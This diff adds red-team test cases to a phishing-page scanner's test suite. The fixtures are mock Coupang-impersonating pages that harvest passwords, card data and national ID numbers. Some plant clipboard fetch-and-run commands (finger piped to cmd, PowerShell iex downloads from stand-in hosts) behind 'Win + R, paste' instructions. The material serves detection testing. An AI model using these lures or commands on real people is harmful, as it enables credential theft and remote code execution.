@@ -297,3 +297,76 @@ describe("author R's honest pages", () => {
     expect(scan(kit).verdict).toBe('suspicious-page');
   });
 });
+
+describe('written against the page18 rules (red team)', () => {
+  it("never lets the box's own label disown the brand's password it asks for", () => {
+    const ko = page(
+      '쿠팡 계정 확인',
+      '<h2>계정 확인</h2><form><input placeholder="쿠팡 아이디"><input type="password" placeholder="문자로는 절대 묻지 않는 쿠팡 비밀번호"><button>확인</button></form>',
+    );
+    expect(scan(ko).verdict).toBe('suspicious-page');
+    const en = page(
+      'Coupang account check',
+      '<h2>Account check</h2><form><input placeholder="Email"><input type="password" placeholder="Never asked by SMS: Coupang password"><button>Check</button></form>',
+      'en',
+    );
+    expect(scan(en).verdict).toBe('suspicious-page');
+  });
+
+  it('does not let advice or a victim line clear hard data asked on a page that shows no name of its own', () => {
+    const kit = page(
+      '결제 차단',
+      '<h2>결제 차단 등록</h2><p>쿠팡 사칭 결제 차단 시스템이 작동 중입니다. 쿠팡, 은행, 경찰은 절대 앱 설치를 요구하지 않습니다.</p>' +
+        '<input placeholder="카드번호 16자리"><input placeholder="CVC"><input placeholder="주민등록번호 앞 6자리 - 뒤 7자리"><button>등록</button>',
+    );
+    expect(scan(kit).verdict).toBe('suspicious-page');
+  });
+
+  it('reads more fetch-and-run commands, and a password box masked by a stylesheet class', () => {
+    const steps = '<p><b>Win + R</b> 을 누르고 <b>Ctrl + V</b> 로 붙여 넣은 뒤 Enter.</p>';
+    for (const cmd of [
+      'cmd /c finger view@203.0.113.9 | cmd',
+      'powershell -c iex(iwr -useb kit.example/a)',
+    ]) {
+      const kit = page(
+        '영수증',
+        `<div class="logo">COUPANG</div><h2>영수증 보기 오류</h2>${steps}<button onclick="navigator.clipboard.writeText('${cmd}')">복구</button>`,
+      );
+      expect(scan(kit).verdict).toBe('suspicious-page');
+    }
+    const styled = page(
+      '로그인',
+      '<style>.k2{-webkit-text-security:disc}</style><div class="logo">COUPANG</div><p>회원 로그인</p>' +
+        '<input placeholder="아이디"><input class="in k2"><button>로그인</button>',
+    );
+    expect(scan(styled).verdict).toBe('suspicious-page');
+  });
+
+  it("keeps a board's post titles, a seller's own event, a tool's install line and a price alert clean", () => {
+    const board = page(
+      '짠돌이 장터',
+      '<form action="/login"><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>로그인</button></form>' +
+        '<h3>쿠팡 로켓와우 반품비 무료 쿠폰 (전원)</h3><p>자유게시판 · 절약왕 · 12.03 · 조회 530</p><p>앱 쿠폰함에 들어와 있어요.</p>',
+    );
+    expect(scan(board).verdict).toBe('clean');
+    const seller = page(
+      '리뷰 이벤트',
+      '<h3>쿠팡 구매 고객 사진 후기 이벤트 – 머그컵 선물</h3><p>쿠팡에서 솔향공방 상품을 사신 분께 머그컵을 보내 드려요.</p>' +
+        '<form><input placeholder="받는 분"><input type="tel" placeholder="연락처"><input placeholder="받을 주소"><button>신청</button></form>',
+    );
+    expect(scan(seller).verdict).toBe('clean');
+    const tool = page(
+      '설치 안내',
+      '<h1>정산도우미 설치</h1><p>쿠팡·스마트스토어 정산을 한 번에. <b>Win + R</b> 을 누르고 <b>Ctrl + V</b> 로 붙여 넣으세요.</p>' +
+        `<button onclick="navigator.clipboard.writeText('powershell -c irm get.jeongsan.example/i.ps1 | iex')">설치 명령 복사</button>`,
+    );
+    expect(scan(tool).verdict).toBe('clean');
+    const alert = page(
+      '최저가 알림',
+      '<h3>쿠팡 최저가 알림</h3><p>관심 상품 가격이 내려가면 알려 드려요. 휴대폰 번호와 간편 번호 4자리로 목록을 불러옵니다.</p>' +
+        '<form><input type="tel" placeholder="휴대폰 번호"><input maxlength="4" style="-webkit-text-security:disc" placeholder="간편 번호 4자리"><button>불러오기</button></form>' +
+        '<p>© 2026 값쪼기 · 개인 개발자</p>',
+    );
+    expect(scan(alert).verdict).toBe('clean');
+  });
+});
